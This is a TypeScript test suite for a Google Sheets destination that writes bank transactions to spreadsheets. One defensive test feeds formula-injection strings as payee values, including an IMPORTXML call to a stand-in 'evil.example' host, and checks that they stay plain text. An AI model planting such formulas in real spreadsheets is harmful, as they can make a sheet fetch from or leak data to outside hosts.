import { eventually } from '@tributary/testing';
import { shaped, TransferEngineFixture } from '../../transfer-engine.fixture';
import { connectDestination, linkTo } from '../linked-destination.fixture';
import { BALANCES_SHEET_ID } from '../../../src/destinations/sheets/balances';
import { SheetsClient } from '../../../src/destinations/sheets/client';
import { fromPastedKey } from '../../../src/destinations/sheets/credentials/credentials';
import { COLUMNS } from '../../../src/destinations/sheets/layout/cells';
import { SheetsDestination } from '../../../src/destinations/sheets/sheets.destination';
import { SpreadsheetAccess } from '../../../src/destinations/sheets/spreadsheet-access';
import {
  appendRequest,
  columnRequests,
  markRequests,
} from '../../../src/destinations/sheets/layout/write-requests';

type Cell = string | number | boolean | null;

interface Tab {
  readonly sheet_id: number;
  readonly title: string;
  readonly rows: Cell[][];
  readonly formulas: string[];
  readonly fetched: string[];
}

const HEADER = ['Transaction ID', 'Date', 'Amount', 'Currency', 'Payee', 'Description', 'Status'];
const DAY_2026_03_02 = 46_083;

let fixture: TransferEngineFixture;
let spreadsheet: string;
let linkId: number;

beforeAll(async () => {
  fixture = await TransferEngineFixture.start();
});
afterAll(() => fixture.close());

/** A spreadsheet and a link for each test: they need nothing else of their own. */
beforeEach(async () => {
  const made = await fixture.control<{ spreadsheet_id: string }>('POST', '/sheets/spreadsheets', {
    title: 'Mine',
    tabs: ['Money', 'Other'],
  });
  spreadsheet = made.spreadsheet_id;
  linkId = await linked();
});

afterEach(() => fixture.control('DELETE', '/faults'));

const ids = (count: number, from = 1): number[] => Array.from({ length: count }, (_, place) => from + place);

describe('new rows', () => {
  it('a new sheet gets a header; each transaction is there once, with a real date and number', async () => {
    await shapeMany(250);
    const { rows } = await money();
    expect(rows[0]).toEqual(HEADER);
    expect(rows).toHaveLength(251);
    expect(new Set(rows.map(([key]) => key)).size).toBe(251);
    expect(rows[1]).toEqual([
      expect.stringMatching(/^trb:[a-z2-7]{32}$/),
      DAY_2026_03_02,
      -1.5,
      'EUR',
      'Kahvila Oy',
      'Card 02.03 KAHVILA',
      'booked',
    ]);
  });

  it('a thousand take two requests, one of them to write', async () => {
    await shapeMany(1); // the header
    const before = await requests();
    await shapeAtOnce(1000, 2);
    const after = await requests();
    expect([after.read - before.read, after.write - before.write]).toEqual([1, 1]);
  });

  it('columns of the user stay in their positions, and ours are added beside them', async () => {
    await byHand('Money!A1', [
      ['My notes', 'amount'],
      ['x', 5],
    ]);
    await shapeMany(1);
    const { rows } = await money();
    expect(rows[0]).toEqual([
      'My notes',
      'amount',
      'Transaction ID',
      'Date',
      'Currency',
      'Payee',
      'Description',
      'Status',
    ]);
    expect(rows[1]).toEqual(['x', 5]);
    expect(rows[2]?.slice(0, 4)).toEqual([null, -1.5, expect.stringMatching(/^trb:/), DAY_2026_03_02]);
  });

  it('no text becomes a formula', async () => {
    const evil = ['=1+2', '+1', '-1', '@SUM(1)', '=IMPORTXML("https://evil.example/","//a")', "'=1"];
    await fixture.shape(
      evil.map((payee, place) => shaped(place + 1, [linkId], mapped({ payee, description: payee }))),
    );
    await fixture.idle();
    const tab = await money();
    expect(tab.rows.slice(1).map((row) => row[4])).toEqual(evil);
    expect([tab.formulas, tab.fetched]).toEqual([[], []]);
  });

  it('amounts of any size keep every digit of their currency, and emoji and very long texts arrive unchanged', async () => {
    const amounts = ['0.00', '-1200', '0.001', '-99999999999999.9', '123456789012345678.90', '-1.123'];
    await fixture.shape(
      amounts.map((amount, place) => shaped(place + 1, [linkId], { document: { amount } })),
    );
    await fixture.shape([
      shaped(100, [linkId], mapped({ payee: '☕️ Café 😀', description: `${'x'.repeat(49_999)}😀` })),
    ]);
    await fixture.idle();
    const { rows } = await money();
    expect(rows.slice(1, 7).map((row) => row[2])).toEqual([
      0,
      -1200,
      0,
      -99999999999999.9,
      '123456789012345678.90',
      -1.12,
    ]);
    expect([rows[7]?.[4], String(rows[7]?.[5]).length]).toEqual(['☕️ Café 😀', 49_999]);
  });

  it('a rule’s column is added when it is first needed', async () => {
    await shapeMany(1);
    await fixture.shape([
      shaped(2, [linkId], { output: { destinationFields: { Category: 'Food', payee: 'Shop' } } }),
    ]);
    await fixture.idle();
    const { rows } = await money();
    expect(rows[0]?.[7]).toBe('Category');
    expect(rows[2]?.slice(4)).toEqual(['Shop', 'Card 02.03 KAHVILA', 'booked', 'Food']);
  });
});

describe('an answer without a result', () => {
  it.each(['drop_after_accept', 'truncate', 'not_json'])('%s: the rows are there once', async (kind) => {
    await fault({ kind, path: ':batchUpdate' });
    await shapeMany(60);
    expect((await money()).rows).toHaveLength(61);
    expect(await states()).toEqual({ TRANSFERRED: 60 });
  });

  it('a late request, after others were written, changes nothing', async () => {
    await shapeMany(1);
    const { access, close } = accessByHand();
    const stale = (await access.edges([0], COLUMNS)).get(0);
    if (!stale) throw new Error('there is no such sheet');
    await shapeMany(5, 2);
    const row = { key: `trb:${'a'.repeat(32)}`, cells: new Map() };
    const late = [...markRequests(stale.view), appendRequest(0, columnRequests(stale, COLUMNS), [row])];
    await expect(access.write(late, 'append rows')).rejects.toMatchObject({
      detail: { kind: 'unavailable' },
    });
    expect((await money()).rows).toHaveLength(7);
    await close();
  });

  it.each([429, 500, 503])('%i: the rows are sent again', async (status) => {
    const before = await summary();
    await fault({ kind: 'status', status, times: 2, ...(status === 429 ? { retry_after_s: 1 } : {}) });
    await shapeMany(5);
    expect((await money()).rows).toHaveLength(6);
    expect((await summary()).requests_in_retry_after).toBe(before.requests_in_retry_after);
  });

  it('an access token that is refused is renewed', async () => {
    await shapeMany(1);
    await fixture.control('POST', '/sheets/tokens/expire');
    await shapeMany(1, 2);
    expect(await states()).toEqual({ TRANSFERRED: 2 });
  });
});

describe('changes', () => {
  beforeEach(() => shapeMany(3));

  it('rows are found by their key, wherever the user moved them and their columns', async () => {
    await requestsByHand([
      { insertDimension: { range: { sheetId: 0, dimension: 'COLUMNS', startIndex: 0, endIndex: 2 } } },
      { sortRange: { range: { sheetId: 0, startRowIndex: 1 }, sortSpecs: [{ dimensionIndex: 4 }] } },
    ]);
    await change(1, { amount: '-9.00' });
    await shapeMany(1, 4);
    const { rows } = await money();
    expect(rows.slice(1).map((row) => row[4])).toEqual([-3.5, -2.5, -9, -4.5]);
    expect(rows[0]?.slice(2)).toEqual(HEADER);
  });

  it('a cell that the user has changed stays, and the log says so', async () => {
    await byHand('Money!E2', [['My café']]);
    await change(1, { amount: '-9.00' }, { payee: 'Another', description: 'Also changed' });
    const [, row] = (await money()).rows;
    expect(row?.slice(2, 6)).toEqual([-9, 'EUR', 'My café', 'Also changed']);
    expect((await transfers())[0]).toMatchObject({ state: 'TRANSFERRED', kept: ['payee'] });
  });

  it('a column of a rule that the user has changed stays', async () => {
    await fixture.shape([shaped(9, [linkId], { output: { destinationFields: { Category: 'Food' } } })]);
    await fixture.idle();
    await byHand('Money!H5', [['Mine']]);
    await fixture.shape([
      shaped(9, [linkId], {
        shapedVersion: 2,
        document: { amount: '-8.00' },
        output: { destinationFields: { Category: 'Fun' } },
      }),
    ]);
    await fixture.idle();
    const row = (await money()).rows[4];
    expect([row?.[2], row?.[7]]).toEqual([-8, 'Mine']);
  });

  it('a row that the user deleted is not created again', async () => {
    await requestsByHand([
      { deleteDimension: { range: { sheetId: 0, dimension: 'ROWS', startIndex: 1, endIndex: 2 } } },
    ]);
    await change(1, { amount: '-9.00' });
    expect((await money()).rows).toHaveLength(3);
    expect((await transfers())[0]).toMatchObject({ state: 'DELETED' });
  });

  it('the rows of removed transactions are deleted, and no others', async () => {
    const own = 9_000_000; // the other tests carry the first transactions, too: theirs would be removed as well
    const amount = (n: number) => ({ document: { amount: `-${n}0.00` } });
    await fixture.shape(ids(6).map((n) => shaped(own + n, [linkId], amount(n))));
    await fixture.idle();
    await fixture.shape([2, 4, 5].map((n) => shaped(own + n, [linkId], { shapedVersion: 2, removed: true })));
    await fixture.idle();
    expect((await money()).rows.slice(1).map((row) => row[2])).toEqual([-1.5, -2.5, -3.5, -10, -30, -60]);
  });

  it('a header that the user has renamed does not make rows twice', async () => {
    await byHand('Money!A1', [['ID']]);
    await fault({ kind: 'drop_after_accept', path: ':batchUpdate' });
    await shapeMany(1, 4);
    const { rows } = await money();
    expect(rows).toHaveLength(5);
    expect(rows[0]).toEqual(['ID', ...HEADER.slice(1)]);
  });

  it('a renamed sheet is the same; a deleted one is a failure that says so', async () => {
    await requestsByHand([
      { updateSheetProperties: { properties: { sheetId: 0, title: 'Geld' }, fields: 'title' } },
    ]);
    await shapeMany(1, 4);
    expect(await states()).toEqual({ TRANSFERRED: 4 });
    await requestsByHand([{ deleteSheet: { sheetId: 0 } }]);
    await shapeMany(1, 5);
    expect((await transfers()).at(-1)).toMatchObject({
      state: 'FAILED',
      error: 'The sheet was deleted in the spreadsheet.',
    });
  });

  it('a spreadsheet that is no longer shared is a failure that says so', async () => {
    await fixture.control('PUT', `/sheets/spreadsheets/${spreadsheet}/sharing`, { shared: false });
    await shapeMany(1, 4);
    const last = (await transfers()).at(-1);
    expect(last).toMatchObject({ state: 'FAILED', error: expect.stringContaining('not shared') as unknown });
  });
});

it('a full spreadsheet says so, without searching for the row', async () => {
  await fixture.control('PUT', '/sheets/limits', { cells: 52_000 });
  const before = await requests();
  await shapeAtOnce(1000);
  expect(await states()).toEqual({ FAILED: 1000 });
  expect((await requests()).write - before.write).toBe(1);
  await fixture.control('PUT', '/sheets/limits', { cells: 10_000_000 });
});

describe('balances', () => {
  const snapshot = (key: string, cleared: string) => ({
    key,
    targetExternalId: '0',
    date: '2026-03-02',
    currency: 'EUR',
    cleared,
    available: null,
  });

  it('are rows of a separate sheet, each once, also if the user renamed it', async () => {
    const client = new SheetsClient(fixture.config.destinations.SHEETS);
    const destination = new SheetsDestination(client, fixture.config.destinations.SHEETS);
    const stored = { ...fromPastedKey(credentials().serviceAccountKey), spreadsheets: [spreadsheet] };
    const unit = { id: 1, connectionId: 1, externalId: spreadsheet, credentials: JSON.stringify(stored) };
    const to = { unit, permit: () => Promise.resolve() };
    await destination.writeBalance(to, snapshot('a', '10.00'));
    await requestsByHand([
      {
        updateSheetProperties: {
          properties: { sheetId: BALANCES_SHEET_ID, title: 'Saldo' },
          fields: 'title',
        },
      },
    ]);
    for (const one of [snapshot('a', '10.00'), snapshot('b', '-7.50')]) {
      expect(await destination.writeBalance(to, one)).toEqual({ kind: 'done', destinationId: one.key });
    }
    const saldo = (await tabs()).find(({ title }) => title === 'Saldo');
    expect(saldo?.rows).toEqual([
      ['Transaction ID', 'Date', 'Account', 'Currency', 'Balance', 'Available'],
      ['a', DAY_2026_03_02, 'Money', 'EUR', 10, null],
      ['b', DAY_2026_03_02, 'Money', 'EUR', -7.5, null],
    ]);
    await destination.close();
  });
});

describe('connecting', () => {
  it.each([
    [{ serviceAccountKey: '{}' }, 'service_account_key'],
    [
      {
        serviceAccountKey: JSON.stringify({
          type: 'service_account',
          client_email: 'a@b',
          private_key: 'no',
        }),
      },
      'service_account_key',
    ],
    [{ spreadsheets: ['https://example.com/'] }, 'spreadsheets'],
    [{ spreadsheets: ['1abcdefghijklmnopqrstuvwxyz0123456789'] }, 'spreadsheets'],
  ])('%j is refused by name', async (wrong, member) => {
    const attempt = connectDestination(fixture, { ...credentials(), ...wrong });
    await expect(attempt).rejects.toMatchObject({
      detail: { kind: 'invalid', errors: { [member]: [expect.any(String)] } },
    });
  });

  it('a spreadsheet is named by its address, too, and shows its sheets', async () => {
    const address = `https://docs.google.com/spreadsheets/d/${spreadsheet}/edit#gid=0`;
    const { targets } = await connectDestination(fixture, { ...credentials(), spreadsheets: [address] });
    expect([...targets.keys()]).toEqual(['Money', 'Other']);
  });
});

function credentials() {
  return {
    type: 'SHEETS' as const,
    serviceAccountKey: JSON.stringify(fixture.sandbox.credentials.sheets),
    spreadsheets: [spreadsheet],
  };
}

async function linked(): Promise<number> {
  const { targets } = await connectDestination(fixture, credentials());
  return linkTo(fixture, { destination_type: 'SHEETS', destination_id: targets.get('Money') ?? 0 });
}

async function shapeMany(count: number, from = 1): Promise<void> {
  await shape(count, from);
  await fixture.idle();
}

/** The same, sent by one turn: nothing is sent before all of it waits. */
async function shapeAtOnce(count: number, from = 1): Promise<void> {
  await fixture.database.execute(`update destination_connections set blocked_until = 'infinity'`);
  await shape(count, from);
  await fixture.database.execute(`update destination_connections set blocked_until = '-infinity'`);
  await fixture.idle();
}

async function shape(count: number, from: number): Promise<void> {
  for (let done = 0; done < count; done += 250) {
    await fixture.shape(ids(Math.min(250, count - done), from + done).map((id) => shaped(id, [linkId])));
  }
  await eventually(async () => expect((await transfers()).length).toBeGreaterThanOrEqual(from + count - 1));
}

async function change(
  id: number,
  document: { amount: string },
  fields: { payee?: string; description?: string } = {},
): Promise<void> {
  const wanted = { ...document, ...mapped(fields).document };
  await fixture.shape([shaped(id, [linkId], { shapedVersion: 2, document: wanted })]);
  await fixture.idle();
}

function mapped(fields: { payee?: string; description?: string }) {
  const mapped_fields = {
    payee: 'Kahvila Oy',
    description: 'Card 02.03 KAHVILA',
    date: '2026-03-02',
    ...fields,
  };
  return { document: { mapped_fields } };
}

/** The spreadsheet as the destination reads and writes it, with the keys that the user has brought. */
function accessByHand() {
  const client = new SheetsClient(fixture.config.destinations.SHEETS);
  const stored = { ...fromPastedKey(credentials().serviceAccountKey), spreadsheets: [spreadsheet] };
  const unit = { id: 1, connectionId: 1, externalId: spreadsheet, credentials: JSON.stringify(stored) };
  return {
    access: new SpreadsheetAccess(client, unit, () => Promise.resolve()),
    close: () => client.close(),
  };
}

async function tabs(): Promise<readonly Tab[]> {
  const ledger = await fixture.control<{ spreadsheets: { id: string; tabs: Tab[] }[] }>(
    'GET',
    '/ledger/sheets',
  );
  return ledger.spreadsheets.find(({ id }) => id === spreadsheet)?.tabs ?? [];
}

async function money(): Promise<Tab> {
  const tab = (await tabs()).find(({ sheet_id }) => sheet_id === 0);
  if (!tab) throw new Error('there is no such sheet');
  return tab;
}

async function summary() {
  const { sheets } = await fixture.control<{
    sheets: { requests: { read: number; write: number }; requests_in_retry_after: number };
  }>('GET', '/summary');
  return sheets;
}

async function requests() {
  return (await summary()).requests;
}

function transfers(): Promise<{ state: string; error: string | null; kept: string[] | null }[]> {
  return fixture.database.query(
    `select state, last_error as error, changed_there as kept from transfers where link_id = $1 order by transaction_id`,
    [linkId],
  );
}

async function states(): Promise<Record<string, number>> {
  const counts: Record<string, number> = {};
  for (const { state } of await transfers()) counts[state] = (counts[state] ?? 0) + 1;
  return counts;
}

function fault(fault: Record<string, unknown>): Promise<void> {
  return fixture.fault({ target: 'sheets', ...fault });
}

function byHand(range: string, values: unknown[][]): Promise<void> {
  return fixture.control('POST', `/sheets/spreadsheets/${spreadsheet}/typed`, { range, values });
}

function requestsByHand(asked: readonly unknown[]): Promise<void> {
  return fixture.control('POST', `/sheets/spreadsheets/${spreadsheet}/requests`, { requests: asked });
}
